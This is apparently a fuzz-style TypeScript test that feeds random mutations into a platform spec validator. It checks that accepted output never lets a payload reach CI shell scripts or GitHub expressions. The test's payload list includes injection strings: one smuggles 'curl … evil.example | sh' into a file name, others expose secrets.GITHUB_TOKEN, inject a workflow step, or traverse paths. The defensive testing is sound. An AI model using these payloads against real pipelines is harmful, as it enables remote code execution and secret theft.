import { parse, parseAllDocuments } from 'yaml';
import { BUILT_IN_ADDONS } from '../../lib/addons/built-in';
import { CiWorkflows } from '../../lib/ci/ci-workflows';
import { ManifestRepository } from '../../lib/manifests/manifest-repository';
import type { PlatformSpec } from '../../lib/model/types';
import { validateSpec } from '../../lib/model/validate';
import { Platform } from '../../lib/platform/platform';
import { sandboxSpec } from '../fixtures';
import { schemaErrors, wholeObjects } from '../support/manifest-checks';
import { actionlintFindings, runScripts, shellcheckFindings } from '../support/workflow-lint';

/**
 * Random mutations of the sandbox spec, each either refused with messages naming fields, or turned
 * into output that is well-formed, lints clean and holds no payload where a shell or GitHub would
 * read it as code. The generator is seeded, so a failure names a mutation that can be replayed.
 */

/** A small deterministic generator (mulberry32: bit operations are its definition). */
/* eslint-disable no-bitwise */
function random(seed: number): () => number {
  let a = seed;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
/* eslint-enable no-bitwise */

/** Shell and expression payloads, and other hostile strings. */
const PAYLOADS = [
  '$(id)',
  '`id`',
  '${{ github.event.head_commit.message }}',
  '${{ secrets.GITHUB_TOKEN }}',
  'Dockerfile; curl -s https://evil.example/x | sh #',
  'a\nrun: echo injected',
  '"; echo pwned; "',
  "' || true '",
  '../../other-team/db',
  '/etc/passwd',
  '*',
  '',
  ' ',
  'x'.repeat(70_000),
  '\u0000',
  '\u202egnp.exe',
  'UPPER',
  'a b',
  'v1.0.0',
  'ok-value',
];

/** Values of other types. */
const OTHERS: unknown[] = [0, -1, 1.5, 65536, 1e12, true, false, null, [], {}, ['x'], { a: 'b' }];

/** Every leaf and container path of a value, as key lists. */
function paths(value: unknown, prefix: (string | number)[] = []): (string | number)[][] {
  if (value === null || typeof value !== 'object') return [prefix];
  const entries = Array.isArray(value) ? value.map((v, i) => [i, v] as const) : Object.entries(value);
  return [prefix, ...entries.flatMap(([k, v]) => paths(v, [...prefix, k]))];
}

/** Optional fields the sandbox leaves out, so mutations reach them too. */
const EXTRA_PATHS: (string | number)[][] = [
  ['apps', 0, 'stack'],
  ['apps', 0, 'ingress', 'groupName'],
  ['apps', 0, 'ingress', 'certificateArn'],
  ['apps', 0, 'secret', 'remoteKey'],
  ['apps', 0, 'containers', 0, 'env', 'PLAIN'],
  ['apps', 0, 'containers', 0, 'repository'],
  ['apps', 0, 'ci', 'deployPaths'],
  ['apps', 0, 'ci', 'branches'],
  ['apps', 0, 'imageUpdate', 'allowTags'],
  ['github', 'manifestRepository', 'credentials', 'secretName'],
  ['cluster', 'publicAccessCidrs'],
  ['argocd', 'project'],
  ['environment'],
];

function set(target: any, path: (string | number)[], value: unknown): void {
  if (path.length === 0) return;
  let node = target;
  for (const key of path.slice(0, -1)) {
    if (node[key] === null || typeof node[key] !== 'object') node[key] = typeof key === 'number' ? [] : {};
    node = node[key];
  }
  node[path[path.length - 1]] = value;
}

interface Mutation {
  readonly path: string;
  readonly value: unknown;
  readonly spec: any;
}

function mutations(count: number, seed: number): Mutation[] {
  const next = random(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(next() * list.length)];
  const all = [...paths(sandboxSpec()).filter((p) => p.length > 0), ...EXTRA_PATHS];
  return Array.from({ length: count }, () => {
    const spec = sandboxSpec();
    const path = pick(all);
    const value = next() < 0.7 ? pick(PAYLOADS) : pick(OTHERS);
    set(spec, path, structuredClone(value));
    return { path: path.map((k) => (typeof k === 'number' ? `[${k}]` : `.${k}`)).join('').replace(/^\./, ''), value, spec };
  });
}

const FIELD_PATH = /^(\(document\)|[A-Za-z_$][\w$-]*(\[\d+\]|\.[^.\s[]+)*)$/;
/** A string that must never reach a shell script or a GitHub expression as it is. */
const isPayload = (v: unknown): v is string => typeof v === 'string' && /[$`;'"\n|]|\.\.\//.test(v);

const cases = mutations(400, 20261122);
const refused: Mutation[] = [];
const accepted: Mutation[] = [];
const problemsOf = new Map<Mutation, ReturnType<typeof validateSpec>>();
for (const m of cases) {
  const problems = validateSpec(m.spec, BUILT_IN_ADDONS);
  problemsOf.set(m, problems);
  (problems.length ? refused : accepted).push(m);
}

describe('random mutations of the sandbox spec', () => {
  test('both outcomes occur, so the property is exercised both ways', () => {
    expect(refused.length).toBeGreaterThan(100);
    expect(accepted.length).toBeGreaterThan(20);
  });

  test('every refused mutation gets one-line messages, each naming a field of the spec', () => {
    for (const m of refused) {
      for (const problem of problemsOf.get(m)!) {
        const named = { mutation: m.path, path: problem.path };
        expect({ ...named, ok: FIELD_PATH.test(problem.path) }).toEqual({ ...named, ok: true });
        expect(problem.message).not.toMatch(/\n/);
        expect(problem.message.length).toBeLessThan(600);
      }
    }
  });

  test('every accepted mutation produces well-formed manifests and workflows with no payload in a script', async () => {
    let linted = 0;
    for (const m of accepted) {
      const platform = Platform.resolve(m.spec as PlatformSpec);
      const manifests = new ManifestRepository(platform).manifestFiles();
      for (const file of manifests.filter((f) => f.path.endsWith('.yaml'))) {
        const where = { mutation: m.path, file: file.path };
        for (const doc of parseAllDocuments(file.content)) expect({ ...where, errors: doc.errors.map(String) }).toEqual({ ...where, errors: [] });
      }
      for (const file of new CiWorkflows(platform).workflowFiles().filter((f) => f.path.endsWith('.yml'))) {
        parse(file.content);
        const scripts = runScripts(file.content).map((s) => s.script).join('\n');
        if (isPayload(m.value)) expect({ mutation: m.path, inScript: scripts.includes(m.value) }).toEqual({ mutation: m.path, inScript: false });
        expect({ mutation: m.path, findings: await actionlintFindings(file.content) }).toEqual({ mutation: m.path, findings: [] });
        // shellcheck and the strict schemas cost more: every eighth accepted mutation.
        if (linted++ % 8 === 0) {
          expect({ mutation: m.path, findings: shellcheckFindings(file.content) }).toEqual({ mutation: m.path, findings: [] });
          // Patches are partial objects, checked once built (manifest tests).
          expect({ mutation: m.path, errors: schemaErrors(wholeObjects(manifests)) }).toEqual({ mutation: m.path, errors: [] });
        }
      }
    }
  });
});
